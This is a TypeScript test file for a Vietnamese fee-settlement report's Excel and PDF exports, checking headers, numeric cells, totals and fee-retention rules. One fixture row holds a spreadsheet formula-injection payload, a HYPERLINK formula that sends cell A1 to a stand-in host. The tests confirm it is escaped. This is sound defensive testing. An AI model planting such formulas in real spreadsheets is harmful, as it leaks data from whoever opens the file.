// The settlement report's files (issue 17 item 6): an Excel workbook with the merged Vietnamese
// header, amounts as numbers, no cell a spreadsheet could run as a formula; and a PDF in Vietnamese.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import type { Settlement } from '@motcua/contracts';
import type { Db } from '../../platform/db/database.js';
import { tableToPdf, tableToXlsx } from '../../platform/exports/table-export.js';
import { noPdftotext, pdfText } from '../../platform/testing/files.js';
import { createSettlement, retainedOf, safeText } from './settlement.js';

const sum = (phi: number, lePhi: number) => ({ phi, lePhi, total: phi + lePhi });
const report: Settlement = {
  from: '2026-11-01',
  to: '2026-11-30',
  agencyId: null,
  rows: [
    {
      agencyId: 'a1',
      agencyName: 'Trung tâm Phục vụ hành chính công Phường Trấn Biên',
      account: '1200012345 — BIDV (UBND Phường Trấn Biên)',
      treasury: '7111 — Kho bạc Nhà nước khu vực XVI',
      payments: 3,
      collected: sum(90_000, 60_000),
      refunded: sum(30_000, 20_000),
      refundsPending: 0,
      retainedPhi: 0,
      toRemit: sum(60_000, 40_000),
    },
    {
      agencyId: 'a2',
      // A name someone typed to attack whoever opens the file.
      agencyName: '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")',
      account: null,
      treasury: '+7112 — Kho bạc',
      payments: 1,
      collected: sum(0, 50_000),
      refunded: sum(0, 0),
      refundsPending: 50_000,
      retainedPhi: 0,
      toRemit: sum(0, 50_000),
    },
  ],
  totals: {
    payments: 4,
    collected: sum(90_000, 110_000),
    refunded: sum(30_000, 20_000),
    refundsPending: 50_000,
    retainedPhi: 0,
    toRemit: sum(60_000, 90_000),
  },
  notes: [],
};
const settlement = createSettlement({ db: {} as Db, agencyName: async () => undefined });

test('the workbook: merged Vietnamese header, numbers as numbers, no formula', async () => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await tableToXlsx(await settlement.table(report))) as never);
  const sheet = book.worksheets[0]!;
  assert.equal(sheet.getCell('A1').value, 'Báo cáo quyết toán phí, lệ phí');
  const texts: string[] = [];
  let formulas = 0;
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      if (typeof cell.value === 'string') texts.push(cell.value);
    }),
  );
  assert.equal(formulas, 0);
  for (const header of [
    'Số tiền đã thu',
    'Đã hoàn trả',
    'Phải nộp ngân sách nhà nước',
    'Tài khoản thu NSNN (Kho bạc)',
  ]) {
    assert.ok(texts.includes(header), header);
  }
  // The group header spans its three columns; a header without a group spans both header rows.
  const merges = (sheet.model as { merges?: string[] }).merges ?? [];
  const groupCell = sheet.findCell(4, 6)!;
  assert.equal(groupCell.value, 'Số tiền đã thu');
  assert.ok(merges.includes('F4:H4'), merges.join(' '));
  assert.ok(merges.includes('A4:A5'), merges.join(' '));
  // Data: amounts are numbers; a text that starts like a formula is kept as text.
  const first = sheet.getRow(6);
  assert.equal(first.getCell(6).value, 90_000);
  assert.equal(first.getCell(16).value, 100_000);
  const attack = sheet.getRow(7);
  assert.equal(attack.getCell(2).value, `'${report.rows[1]!.agencyName}`);
  assert.equal(attack.getCell(4).value, "'+7112 — Kho bạc");
  assert.equal(attack.getCell(3).value, 'Không ghi');
  const total = sheet.getRow(8);
  assert.equal(total.getCell(2).value, 'Tổng cộng');
  assert.equal(total.getCell(16).value, 150_000);
});

test('the PDF: Vietnamese title, headers and totals', { skip: noPdftotext }, async () => {
  const text = pdfText(await tableToPdf(await settlement.table(report)));
  for (const line of [
    'Báo cáo quyết toán phí, lệ phí',
    'Từ ngày 01/11/2026 đến ngày 30/11/2026',
    'Phải nộp ngân sách nhà nước',
    'Tổng cộng',
    '150.000',
  ]) {
    assert.ok(text.includes(line), `${line} — in — ${text}`);
  }
});

test('formula-like text gets an apostrophe; plain text stays', () => {
  for (const bad of ['=1+1', '+84', '-2', '@SUM(A1)', '\tx', '\rx']) {
    assert.equal(safeText(bad), `'${bad}`);
  }
  assert.equal(safeText('Phường Trấn Biên'), 'Phường Trấn Biên');
  assert.equal(safeText('1200012345 — BIDV'), '1200012345 — BIDV');
});

test('phí kept by the agency only when the schedule gives a share; lệ phí never', () => {
  const item = { code: 'P', kind: 'phi' as const, name: 'Phí', amount: 30_000, basis: '' };
  assert.equal(retainedOf(item), 0);
  assert.equal(retainedOf({ ...item, retainedPercent: 40 } as never), 12_000);
  assert.equal(retainedOf({ ...item, retainedPercent: 250 } as never), 30_000);
  assert.equal(retainedOf({ ...item, kind: 'le-phi', retainedPercent: 40 } as never), 0);
});
